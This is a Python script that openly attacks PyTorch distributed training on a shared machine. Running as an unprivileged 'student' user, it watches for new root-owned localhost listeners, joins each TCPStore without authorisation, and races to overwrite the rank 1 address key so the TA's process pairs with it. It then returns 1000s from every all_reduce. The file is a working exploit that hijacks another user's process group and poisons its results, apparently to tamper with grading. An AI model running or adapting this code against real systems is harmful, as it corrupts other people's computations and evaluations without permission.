"""a04d: a04b with listeners found through NETLINK_SOCK_DIAG (0.03 ms a poll instead of 11 ms for /proc/net/tcp).
a04b (student side, uid 65534): join the TA's launch as rank 1. Watch /proc/net/tcp for new 127.0.0.1 listeners of
uid 0; connect to each as a TCPStore client; build a gloo process group of rank 1 of 2 through a wrapper store that
keeps re-writing our own address under rank 1's key ('0//cpu//0/1'), so that the TA's rank 0 pairs with us; then
answer every all_reduce with 1000s."""
import sys, time, os, threading, datetime
os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"
import torch, torch.distributed as dist
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from diag import listeners
t0 = time.time()
def log(*a): print(f"{time.time()-t0:.3f}s", *a, flush=True)
def listeners_proc():
    out = []
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A" and int(f[7]) == 0 and f[1].startswith("0100007F"):
            out.append(int(f[1].split(":")[1], 16))
    return out
KEY = "0//cpu//0/1"
class Wrap(dist.Store):
    def __init__(self, s, prefix):
        super().__init__(); self.s, self.prefix, self.mine = s, prefix, None
    def _k(self, k): return self.prefix + k
    def set(self, k, v):
        full = self._k(k); self.s.set(full, v)
        if full == KEY:
            self.mine = v
            threading.Thread(target=self.hammer, daemon=True).start()
    def hammer(self):
        c = dist.TCPStore("127.0.0.1", self.s.port, is_master=False, wait_for_workers=False)
        n = 0; end = time.time() + 20
        while time.time() < end:
            c.set(KEY, self.mine); n += 1
        log("hammer wrote our address", n, "times")
    def get(self, k): return self.s.get(self._k(k))
    def wait(self, keys, timeout=None): return self.s.wait([self._k(k) for k in keys]) if timeout is None else self.s.wait([self._k(k) for k in keys], timeout)
    def add(self, k, v): return self.s.add(self._k(k), v)
    def check(self, keys): return self.s.check([self._k(k) for k in keys])
    def compare_set(self, k, e, d): return self.s.compare_set(self._k(k), e, d)
    def delete_key(self, k): return self.s.delete_key(self._k(k))
    def num_keys(self): return self.s.num_keys()
    def set_timeout(self, t): pass
def join(port):
    try:
        s = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=3), wait_for_workers=False)
    except Exception as e:
        log("port", port, "not a store"); return
    log("port", port, "is a store; joining as rank 1")
    try:
        pg = dist.ProcessGroupGloo(Wrap(s, "0//cpu//"), 1, 2, datetime.timedelta(seconds=30))
        log("joined: paired with the TA's rank 0")
        n = 0
        while True:
            t = torch.full((4,), 1000.0); pg.allreduce([t]).wait(); n += 1
            if n <= 2 or n % 10 == 0: log("all_reduce", n, "->", t.tolist())
    except Exception as e:
        log("join ended:", type(e).__name__, str(e)[:150])
before = set(listeners()); seen = set()
while time.time() - t0 < float(sys.argv[1]):
    for port in listeners():
        if port in seen or port in before: continue
        seen.add(port)
        threading.Thread(target=join, args=(port,), daemon=True).start()
    time.sleep(0.0002)
